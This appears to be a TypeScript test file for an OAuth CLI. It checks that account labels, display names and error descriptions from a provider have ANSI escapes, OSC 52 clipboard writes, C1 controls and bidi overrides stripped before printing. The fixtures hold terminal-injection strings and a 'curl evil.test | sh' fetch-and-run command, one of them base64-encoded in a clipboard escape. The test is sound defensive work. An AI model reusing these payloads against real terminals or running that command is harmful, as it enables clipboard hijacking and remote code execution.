// Provider text on a terminal, as an attack: an account label, a display name or an error
// description carrying ANSI escapes (clear the screen, recolour, OSC 52 to write the clipboard),
// C1 controls (0x9B is a CSI to some terminals), a carriage return that overwrites the line, or a
// bidi override. None of it reaches the terminal: stripped when received, again when printed,
// and escaped in --json.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { runCli } from '../support/cli.ts';
import { startJsonProvider, type JsonProvider } from '../support/json-provider.ts';
import { seedConnection } from '../support/make-due.ts';
import { oauthHome, type OAuthHome } from '../support/oauth-home.ts';

/** Everything a terminal acts on: C0 but tab and newline, DEL, C1, and the bidi controls. */
const ACTIVE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;
const HOSTILE_LABEL = 'alice\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07\x1b[2J\x9b31m@example\rtest\u202e';
const HOSTILE_NAME = 'Evil\x1b[8mCorp\x1bc';
const HOSTILE_DESCRIPTION = 'denied\x1b[2K\rError: run `curl evil.test | sh` to fix\x9d0;pwned\x07';

let jp: JsonProvider;
let h: OAuthHome;

before(async () => {
  jp = await startJsonProvider({ account: { id: 'user\x1b[1m-42', email: HOSTILE_LABEL } });
  h = await oauthHome({ ...jp.clientEnv, AUTHSOME_REFRESH_BACKOFF: '0' });
  await h.register(jp.definition({ display_name: HOSTILE_NAME }));
});

after(async () => {
  await h?.cleanup();
  await jp?.close();
});

describe('provider text reaches the terminal without control characters', () => {
  it('the account label from a login: printed by login, stored, and shown by get, list and --json', async () => {
    const login = await runCli(['login', 'jsonprov'], { env: h.env });
    assert.equal(login.code, 0, login.stderr);
    assert.match(login.stdout, /as alice@exampletest/);
    assert.doesNotMatch(login.stdout + login.stderr, ACTIVE, 'login');
    const label = await runCli(['get', 'jsonprov', '--field', 'account_label'], { env: h.env });
    assert.doesNotMatch(label.stdout, ACTIVE, 'get --field account_label');
    assert.match(label.stdout, /^alice.*@exampletest\n$/);
    const table = await runCli(['get', 'jsonprov'], { env: h.env });
    assert.doesNotMatch(table.stdout, ACTIVE, 'get');
    const listed = await runCli(['list', '--connected'], { env: h.env });
    assert.doesNotMatch(listed.stdout + listed.stderr, ACTIVE, 'list');
    const json = await runCli(['get', 'jsonprov', '--json'], { env: h.env });
    assert.doesNotMatch(json.stdout, ACTIVE, 'get --json: raw control characters');
    const record = JSON.parse(json.stdout) as { account: { id: string; label: string } };
    assert.doesNotMatch(record.account.label + record.account.id, ACTIVE, 'stored without them');
  });

  it('a label stored by an older version is cleaned when printed, and --json escapes what it keeps', async () => {
    const pair = jp.issuePair();
    await seedConnection(h.home, {
      provider: 'jsonprov', connection_name: 'old', ...pair, expires_at: '2999-01-01T00:00:00', obtained_at: '2025-01-01T00:00:00',
      account: { id: 'x', label: HOSTILE_LABEL },
    });
    for (const args of [['get', 'jsonprov', '--connection', 'old'], ['get', 'jsonprov', '--connection', 'old', '--field', 'account_label'], ['get', 'jsonprov', '--connection', 'old', '--show-secret']]) {
      const shown = await runCli(args, { env: h.env });
      assert.equal(shown.code, 0, shown.stderr);
      assert.doesNotMatch(shown.stdout, ACTIVE, args.join(' '));
    }
    const json = await runCli(['get', 'jsonprov', '--connection', 'old', '--json'], { env: h.env });
    assert.doesNotMatch(json.stdout, ACTIVE, 'no raw control character on the terminal');
    // JSON escapes keep the value exact for a program that parses it.
    assert.equal((JSON.parse(json.stdout) as { account: { label: string } }).account.label, HOSTILE_LABEL);
  });

  it('an error description and a display name in a failed refresh: neither the message nor the stored record carries them raw', async () => {
    await seedConnection(h.home, { provider: 'jsonprov', connection_name: 'failing', ...jp.seedRecord() });
    jp.failWith('refresh', 'invalid_grant', { description: HOSTILE_DESCRIPTION, times: Infinity });
    const failed = await runCli(['get', 'jsonprov', '--connection', 'failing'], { env: h.env });
    assert.equal(failed.code, 6, failed.stderr);
    assert.match(failed.stderr, /EvilCorp said: denied ?Error: run `curl evil\.test \| sh` to fix/);
    assert.doesNotMatch(failed.stderr + failed.stdout, ACTIVE);
    const json = await runCli(['get', 'jsonprov', '--connection', 'failing', '--field', 'metadata', '--json'], { env: h.env });
    const metadata = JSON.parse(json.stdout) as { last_refresh_error_description: string };
    assert.doesNotMatch(metadata.last_refresh_error_description, ACTIVE, 'stored without them');
    jp.resetControls();
  });

  it('--verbose shows the provider\'s answer without them, one line per entry in the debug log too', async () => {
    await seedConnection(h.home, { provider: 'jsonprov', connection_name: 'verbose', ...jp.seedRecord() });
    jp.failWith('refresh', 'invalid_grant', { description: HOSTILE_DESCRIPTION, times: Infinity });
    const failed = await runCli(['--verbose', 'get', 'jsonprov', '--connection', 'verbose'], { env: h.env });
    assert.equal(failed.code, 6, failed.stderr);
    assert.match(failed.stderr, /oauth ← 400 POST/, 'the answer is dumped');
    assert.doesNotMatch(failed.stderr, ACTIVE, '--verbose on stderr');
    const log = readFileSync(join(h.home, 'logs', 'authsome.log'), 'utf8');
    assert.doesNotMatch(log.replaceAll('\n', ''), ACTIVE, 'the debug log file');
    assert.ok(log.split('\n').every((line) => line === '' || /^\d{4}-\d\d-\d\dT/.test(line)), 'no line a provider started');
    jp.resetControls();
  });
});
